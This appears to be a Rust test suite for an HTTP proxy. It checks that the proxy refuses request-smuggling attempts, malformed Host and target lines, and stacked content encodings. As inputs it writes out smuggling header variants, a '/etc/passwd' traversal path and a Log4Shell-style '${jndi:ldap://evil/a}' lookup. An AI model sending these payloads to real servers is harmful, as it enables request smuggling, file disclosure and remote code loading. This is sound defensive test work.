//! Requests that two parsers could read differently are refused, and nothing of them reaches the origin.

use crate::support::client::{Client, empty, exchange};
use crate::support::origin::Origin;
use crate::support::weir::Setup;

#[tokio::test]
async fn ambiguous_framing_is_refused() {
    let origin = Origin::echo().await;
    let weir = Setup::new(origin.address).start().await;
    let smuggled = "0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n";
    let length = smuggled.len();
    for headers in [
        format!("Content-Length: {length}\r\nTransfer-Encoding: chunked"),
        format!("Transfer-Encoding: chunked\r\nContent-Length: {length}"),
        format!("Content-Length: {length}\r\nContent-Length: 5"),
        "Content-Length: 5\r\nContent-Length: 5".to_owned(),
        "Content-Length: 5, 5".to_owned(),
        "Content-Length: +5".to_owned(),
        "Content-Length: 0x5".to_owned(),
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity".to_owned(),
        "Transfer-Encoding: identity, chunked".to_owned(),
        "Transfer-Encoding: xchunked".to_owned(),
        "Transfer-Encoding : chunked".to_owned(),
        "X: a\r\n Transfer-Encoding: chunked".to_owned(),
        "X: a\nTransfer-Encoding: chunked".to_owned(),
        "X: a\0b".to_owned(),
        "X y: z".to_owned(),
    ] {
        let request = format!("POST / HTTP/1.1\r\nHost: a\r\n{headers}\r\n\r\n{smuggled}");
        let answer = exchange(weir.address, request.as_bytes()).await;
        assert!(answer.starts_with("HTTP/1.1 400"), "{headers:?}: {answer}");
        assert_eq!(
            answer.matches("HTTP/1.1 ").count(),
            1,
            "{headers:?}: {answer}"
        );
    }
    let old = "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
    assert!(
        exchange(weir.address, old.as_bytes())
            .await
            .contains(" 400 ")
    );
    assert_eq!(origin.seen().len(), 0, "{:?}", origin.seen());
}

#[tokio::test]
async fn the_offender_in_a_pipeline_is_refused_and_ends_it() {
    let origin = Origin::echo().await;
    let weir = Setup::new(origin.address).start().await;
    let good =
        "POST /good HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n";
    let bad = "POST /bad HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
    let answer = exchange(weir.address, format!("{good}{bad}{good}").as_bytes()).await;
    let statuses: Vec<&str> = answer
        .split("HTTP/1.1 ")
        .skip(1)
        .map(|part| &part[..3])
        .collect();
    assert_eq!(statuses, ["200", "400"]);
    assert_eq!(origin.seen().len(), 1);
    assert!(answer.contains("x-request-id"), "{answer}");
    let records = crate::support::eventually("both records", || {
        Some(weir.records()).filter(|records| records.len() == 2)
    })
    .await;
    assert_eq!(
        (&records[1]["verdict"], &records[1]["path"]),
        (&"refused".into(), &"/bad".into())
    );
    let series = "weir_errors_total{cause=\"framing\"}";
    assert!(crate::admin::metric(&weir, series).await >= 1.0);
}

#[tokio::test]
async fn one_host_and_a_plain_target() {
    let origin = Origin::echo().await;
    let weir = Setup::new(origin.address).start().await;
    for (request, status) in [
        ("GET / HTTP/1.1\r\nConnection: close\r\n\r\n", 400),
        (
            "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
            400,
        ),
        (
            "GET / HTTP/1.1\r\nHost: a/b\r\nConnection: close\r\n\r\n",
            400,
        ),
        (
            "GET http://b/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
            400,
        ),
        (
            "CONNECT a:443 HTTP/1.1\r\nHost: a:443\r\nConnection: close\r\n\r\n",
            405,
        ),
        (
            "GET a HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
            400,
        ),
        (
            "GET / HTTP/9.9\r\nHost: a\r\nConnection: close\r\n\r\n",
            400,
        ),
        (
            "OPTIONS * HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
            200,
        ),
    ] {
        let answer = exchange(weir.address, request.as_bytes()).await;
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status}")),
            "{request:?}: {answer}"
        );
    }
    assert_eq!(origin.seen().len(), 1);
}

#[tokio::test]
async fn every_byte_of_a_target_is_forwarded_as_it_came() {
    let origin = Origin::echo().await;
    let weir = Setup::new(origin.address).start().await;
    let mut client = Client::http1(weir.address).await;
    for target in [
        "/a//b/./../c;d=1?e=f&&e=%20+%2B",
        "/%ff%fe%80?q=%c0%af",
        "/%2e%2e%2fetc%2fpasswd?x=%00",
        "/?",
        "/%",
        "/%zz?%",
        "/~!$&'()*+,;=:@|[]^`{}\"<>",
    ] {
        let Ok(request) = client.request("GET", target).body(empty()) else {
            continue;
        };
        let response = client.send(request).await;
        let seen: crate::support::origin::Seen = serde_json::from_slice(response.body()).unwrap();
        assert_eq!(seen.target, target);
    }
}

#[tokio::test]
async fn a_path_that_is_no_utf8_is_answered_and_harms_nobody() {
    let origin = Origin::echo().await;
    let weir = Setup::new(origin.address).start().await;
    let answer = exchange(
        weir.address,
        b"GET /\xff\xfe\x80 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 400"), "{answer}");
    let answer = exchange(
        weir.address,
        "GET /grüße HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n".as_bytes(),
    )
    .await;
    assert!(answer.contains("/grüße"), "{answer}");
    assert_eq!(
        Client::http1(weir.address).await.get("/%ff").await.status(),
        200
    );
}

#[tokio::test]
async fn what_inspection_cannot_see_is_refused_where_it_is_enforced() {
    let origin = Origin::echo().await;
    let mut setup = Setup::new(origin.address);
    setup
        .routes
        .push("{id: shadow, path: /shadow, upstream: app, mode: shadow}".to_owned());
    let weir = setup.start().await;
    for (path, encoding, status) in [
        ("/", "gzip", 200),
        ("/", "gzip, gzip", 415),
        ("/", "identity\r\nContent-Encoding: gzip", 415),
        ("/shadow", "gzip, gzip", 200),
    ] {
        let request = format!(
            "POST {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Encoding: {encoding}\r\nContent-Length: 1\r\n\r\nx"
        );
        let answer = exchange(weir.address, request.as_bytes()).await;
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status}")),
            "{path} {encoding}: {answer}"
        );
    }
    // `Upgrade` travels on without having been inspected, so it can only name a protocol.
    let request = "GET /upgrade HTTP/1.1\r\nHost: a\r\nConnection: close, upgrade\r\nUpgrade: ${jndi:ldap://evil/a}\r\n\r\n";
    let answer = exchange(weir.address, request.as_bytes()).await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(!answer.contains("jndi"), "{answer}");
}
